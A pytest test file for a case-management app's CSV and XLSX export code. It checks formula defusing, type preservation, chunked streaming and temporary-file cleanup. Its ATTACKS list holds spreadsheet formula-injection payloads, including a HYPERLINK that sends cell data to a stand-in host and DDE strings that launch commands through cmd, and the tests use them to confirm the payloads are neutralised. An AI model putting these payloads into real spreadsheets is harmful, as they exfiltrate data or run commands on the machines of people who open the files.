"""CSV and XLSX downloads: formulas defused, numbers kept, rows streamed, temporary files removed."""

from __future__ import annotations

import csv
import glob
import io
import os
import tempfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from casemgmt.reports import spreadsheets
from casemgmt.reports.spreadsheets import csv_chunks, download, safe_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "expected"), [
    (None, ""),
    (True, "yes"),
    (False, "no"),
    (-5, -5),
    (2.5, 2.5),
    (Decimal("-1.25"), Decimal("-1.25")),
    (date(2024, 2, 29), "2024-02-29"),
    (datetime(2024, 2, 29, 13, 5), "2024-02-29T13:05:00"),
    ("María José", "María José"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_other_values_are_kept(value, expected):
    assert safe_cell(value) == expected
    assert type(safe_cell(value)) is type(expected)


def _read_csv(chunks) -> list[list[str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_has_a_bom_a_header_and_defused_rows():
    rows = _read_csv(csv_chunks(["name", "=header"], [[ATTACKS[0], 3], ["plain", None]]))
    assert rows == [["name", "'=header"], ["'" + ATTACKS[0], "3"], ["plain", ""]]


def test_csv_is_produced_lazily_in_chunks(monkeypatch):
    monkeypatch.setattr(spreadsheets, "CHUNK", 1024)
    consumed = []

    def rows():
        for n in range(1000):
            consumed.append(n)
            yield [n, "x" * 20]

    chunks = csv_chunks(["n", "text"], rows())
    first = next(chunks)
    assert len(first) >= 1024
    assert len(consumed) < 100  # the first chunk left before the rows were all read
    rest = list(chunks)
    assert len(rest) > 10
    parsed = _read_csv([first, *rest])
    assert len(parsed) == 1001 and parsed[-1] == ["999", "x" * 20]


@pytest.fixture(autouse=True)
def _private_tmp(monkeypatch, tmp_path):
    """Temporary files of this test only, so other processes' exports cannot disturb the counts."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))


@pytest.fixture(autouse=True)
def _private_tmp(tmp_path, monkeypatch):
    # Each test looks at a temporary directory of its own: another worker's export must not show up in it.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))


def _exports_left() -> set[str]:
    return set(glob.glob(os.path.join(tempfile.gettempdir(), "casemgmt-export-*")))


def test_csv_download_is_a_streamed_attachment(app):
    with app.test_request_context():
        response = download("csv", "caseload-x", ["a"], iter([[1], ["=2"]]))
        assert response.is_streamed
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"] == 'attachment; filename="caseload-x.csv"'
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        body = response.get_data(as_text=True)
    assert _read_csv([body]) == [["a"], ["1"], ["'=2"]]


def test_xlsx_download_keeps_text_as_text_and_numbers_as_numbers(app):
    with app.test_request_context():
        response = download("xlsx", "caseload-x", ["text", "number", "when"],
                             [[ATTACKS[0], 7], ["http://example.org", Decimal("2.5")], [None, True, date(2024, 1, 2)]],
                             sheet="a sheet name that is longer than thirty-one characters")
        assert response.is_streamed
        assert response.mimetype == spreadsheets.XLSX_MIMETYPE
        assert response.headers["Content-Disposition"] == 'attachment; filename="caseload-x.xlsx"'
        data = b"".join(response.response)
        assert int(response.headers["Content-Length"]) == len(data)
    assert _exports_left() == set()  # the temporary file went with the last chunk
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "a sheet name that is longer tha"
    assert [c.value for c in sheet[1]] == ["text", "number", "when"]
    assert sheet["A2"].value == "'" + ATTACKS[0] and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 7 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "http://example.org" and not sheet["A3"].hyperlink
    assert sheet["B3"].value == 2.5
    assert [sheet["B4"].value, sheet["C4"].value] == ["yes", "2024-01-02"]


def test_a_failure_while_writing_xlsx_leaves_no_file(app):

    def rows():
        yield ["one"]
        raise RuntimeError("database went away")

    with app.test_request_context(), pytest.raises(RuntimeError):
        download("xlsx", "x", ["a"], rows())
    assert _exports_left() == set()


def test_an_xlsx_response_closed_unread_leaves_no_file(app):
    """A client that goes away before the first chunk closes the body without reading it. The file may hold the
    names of an identified export in plain text, so it must not stay behind."""
    with app.test_request_context():
        response = download("xlsx", "x", ["a"], [["b"]])
        response.close()
    assert _exports_left() == set()
